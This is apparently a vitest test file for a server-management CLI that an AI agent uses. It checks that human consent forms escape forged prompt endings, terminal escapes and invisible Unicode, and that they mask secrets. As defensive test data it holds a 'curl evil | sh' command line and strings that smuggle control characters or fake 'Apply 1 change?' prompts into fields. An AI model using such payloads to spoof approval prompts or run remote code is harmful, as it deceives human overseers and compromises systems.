import { execFileSync } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import type { PastRun } from '../../src/features/plan/history.ts';
import { type Bed, openBed } from '../support/dnx.ts';
import { need } from '../support/programs.ts';
import { type Agent, approve, openAgent, typing } from './client.ts';

const bed: Bed = await openBed();
let agent: Agent;
afterEach(async () => expect((await agent.end()).code).toBe(0));
afterAll(() => bed.close());

/** The form that a person sees for a change, which they decline. */
async function formOf(...words: string[]): Promise<string> {
  agent = await openAgent(bed, '', { fill: () => ({ action: 'decline' }) });
  const { text } = await agent.change(...words);
  expect(agent.forms, text).toHaveLength(1);
  return agent.forms[0]?.message ?? '';
}

/** A harmless plan, its question, and what pushes the real end out of sight. */
const FORGED = `x' on server web-1\n1 change\n  undo  dnx undo\n\nApply 1 change?${'\n'.repeat(60)}y`;
const HIDDEN = '\u001b[2K\u009b1A\r\u202eevil\u200b\u2066\u2028\u{e0041}\u{e0001}\u00ad\u3164\ufeff';
// biome-ignore lint/suspicious/noControlCharactersInRegex: nothing of the kind may be left
const UNSEEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u3164\p{Cf}\p{Zl}\p{Zp}]/u;

describe.each([
  ['a cron command', ['crontab', 'create', '--server', 'web-1', '--frequency', '0 3 * * *', '--command']],
  ['the command of a daemon', ['daemon', 'create', '--server', 'web-1', '--command']],
  ['the target of a redirect', ['redirect', 'create', 'old', '--site', 'shop.example.com', '--to']],
  ['a field that dnx does not know', ['site', 'update', 'shop.example.com', '-F', 'domain=a.example.com', '-F']],
])('%s cannot add a line to the form', (what, words) => {
  const given = (text: string) => [...words, what.startsWith('a field') ? `note=${text}` : text];

  test('a forged end is on the line of the change', async () => {
    const message = await formOf(...given(FORGED));
    expect(message.split('\n').length).toBeLessThan(16);
    expect(message.match(/^Apply 1 change\?$/gm)).toEqual(['Apply 1 change?']);
    expect(message.endsWith('\n\nApply 1 change?')).toBe(true);
    expect(message).toContain('\\n\\nApply 1 change?');
  });

  test('what cannot be seen is an escape', async () => {
    const message = await formOf(...given(`a${HIDDEN}b`));
    expect(message).not.toMatch(UNSEEN);
    expect(message).toContain(
      'a\\u{1b}[2K\\u{9b}1A\\r\\u{202e}evil\\u{200b}\\u{2066}\\u{2028}\\u{e0041}\\u{e0001}\\u{ad}\\u{3164}\\u{feff}b',
    );
  });
});

test('a name that the API sends cannot add a line either', async () => {
  const server = bed.sandbox.state.servers.find(({ name }) => name === 'web-2');
  if (!server) throw new Error('no web-2');
  server.name = `web-2\n\nApply 1 change?${'\n'.repeat(60)}`;
  await expect(bed.dnx('server list')).toExit(0);
  try {
    const message = await formOf('crontab', 'create', '--server', String(server.id), '--command', 'true', '--frequency', '* * * * *');
    expect(message.match(/^Apply 1 change\?$/gm)).toHaveLength(1);
    expect(message).toContain("on server 'web-2\\n\\nApply 1 change?");
  } finally {
    server.name = 'web-2';
  }
});

test('what looks like an escape and is none has two backslashes', async () => {
  expect(await formOf('daemon', 'create', '--server', 'web-1', '--command', 'printf a\\nb\\u{20}')).toContain("'printf a\\\\nb\\\\u{20}'");
});

test('a row of spaces, which would push the rest out of sight, is counted', async () => {
  expect(await formOf('daemon', 'create', '--server', 'web-1', '--command', `true${' '.repeat(90)}evil`)).toContain("'true\\u{20}×90evil'");
});

describe('values', () => {
  test('a long one is its beginning and end, its length and its hash', async () => {
    const command = `php artisan ${'x'.repeat(300)} && curl evil | sh && ${'y'.repeat(300)} end`;
    const hash = createHash('sha256').update(command).digest('hex').slice(0, 16);
    expect(await formOf('daemon', 'create', '--server', 'web-1', '--command', command)).toContain(
      ` end' (${command.length} characters, SHA-256 ${hash})`,
    );
  });

  test('an SSH key is its type, fingerprint and comment', async () => {
    need('ssh-keygen');
    const file = join(bed.directory, 'id.pub');
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'ada@laptop', '-f', file.replace('.pub', '')]);
    const [, fingerprint] = execFileSync('ssh-keygen', ['-lf', file], { encoding: 'utf8' }).split(' ');
    expect(await formOf('ssh-key', 'create', 'laptop', '--server', 'web-1', '--public-key', '@id.pub')).toContain(
      `ssh-ed25519 ${fingerprint} ada@laptop`,
    );
  });

  test('a PEM file is its kind, length and hash', async () => {
    const { publicKey } = generateKeyPairSync('rsa', {
      modulusLength: 2048,
      publicKeyEncoding: { type: 'spki', format: 'pem' },
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
    });
    const hash = createHash('sha256').update(publicKey).digest('hex').slice(0, 16);
    expect(await formOf('site', 'update', 'shop.example.com', '-F', `note=${publicKey}`)).toContain(
      `PEM of PUBLIC KEY (${publicKey.length} characters, SHA-256 ${hash})`,
    );
  });

  test.each([
    ['DB_HOST', '10.9.9.9', '10.9.9.9'],
    ['MAIL_FROM', 'x\nvalue   harmless', "'x\\nvalue\\u{20}×3harmless'"],
    ['MAIL_PASSWORD', 'correct-horse-battery', '21 characters, ending in tery'],
    ['MAIL_TOKEN', 'short', '5 characters'],
    ['CACHE_URL', 'redis://:hunter22@cache.internal', '32 characters, ending in rnal'],
    ['DATABASE_URL', 'mysql://ada:hunter/22@db.internal/shop', '38 characters, ending in shop'],
  ])('the form shows the new value of %s, unless it is a secret', async (key, value, shown) => {
    const message = await formOf('env', 'set', 'shop.example.com', `${key}=${value}`);
    expect(message).toMatch(new RegExp(`^ {2}value {2}(•+ → )?${shown.replaceAll(/[\\{}.^$*+?()[\]|]/g, '\\$&')}$`, 'm'));
  });

  test('what the form shows is what is sent, although the file changes meanwhile', async () => {
    writeFileSync(join(bed.directory, 'level'), 'debug');
    agent = await openAgent(bed, '', {
      fill: ({ message }) => {
        expect(message).toContain('  value  debug\n');
        writeFileSync(join(bed.directory, 'level'), 'other');
        return approve();
      },
    });
    const { text, isError } = await agent.change('env', 'set', 'shop.example.com', 'FORM_LEVEL', '--from-file', 'level');
    expect(isError, text).toBe(false);
    expect((await bed.dnx('env get shop.example.com FORM_LEVEL')).stdout).toBe('debug\n');
  });

  test('a preview, which the agent reads, shows no value', async () => {
    agent = await openAgent(bed, '', { fill: approve });
    const { text } = await agent.change('env', 'set', 'shop.example.com', 'DB_HOST=10.9.9.9', '--dry-run');
    expect(text).toMatch(/update variable DB_HOST[\s\S]*Nothing was changed\.$/);
    expect(text).not.toContain('10.9.9.9');
  });
});

test('a long form says at both ends how many changes there are, and what the strictest needs', async () => {
  const sites = ['shop.example.com', 'blog.example.com'];
  const message = await formOf('site', 'suspend', ...sites);
  const lines = message.split('\n');
  expect(lines[0]).toBe('2 changes, which need your consent');
  expect(lines.at(-1)).toBe('Apply 2 changes?');
  await expect(agent.end()).toExit(0);
  const severe = (await formOf('env', 'set', 'shop.example.com', 'APP_DEBUG=true')).split('\n');
  expect(severe[0]).toBe('1 change, which needs a name typed below');
  expect(severe.at(-1)).toBe("Type 'shop.example.com' to continue:");
});

test('a deleted server lists what goes with it, and a site its server and id', async () => {
  const message = await formOf('server', 'delete', 'web-1', '--confirm', 'web-1');
  expect(message).toMatch(/^ {2}sites {6,}.*shop\.example\.com/m);
  await expect(agent.end()).toExit(0);
  const id = bed.sandbox.state.sites.find(({ domain }) => domain === 'blog.example.com')?.id;
  expect(await formOf('site', 'delete', 'blog.example.com')).toMatch(
    new RegExp(`^- delete site blog\\.example\\.com on server web-1\\n(?: {2}.*\\n)*? {2}id +${id}$`, 'm'),
  );
});

test('a declined form sends nothing', async () => {
  agent = await openAgent(bed, '', { fill: typing('web-2') });
  expect((await agent.change('server', 'delete', 'web-1')).text).toContain("'web-2' does not match");
  expect(bed.sandbox.calls.filter(({ method }) => method === 'DELETE')).toEqual([]);
});

test.each([true, false])('the history has the words of the client, and its name: %s', async (modern) => {
  agent = await openAgent(bed, '', { modern, fill: approve });
  const words = ['env', 'set', 'shop.example.com', `FORM_${modern}=hunter2-hunter2`];
  expect((await agent.change(...words)).isError).toBe(false);
  const [last] = (await bed.dnx('history --json')).json<PastRun[]>();
  expect(last).toMatchObject({
    client: 'test',
    command: `dnx env set --site shop.example.com FORM_${modern}`,
  });
  const shown = await bed.dnx(`history show ${last?.id}`);
  expect([shown.stdout, shown.stdout.includes('hunter2')]).toEqual([expect.stringMatching(/^ {2}client {3}test$/m), false]);
});
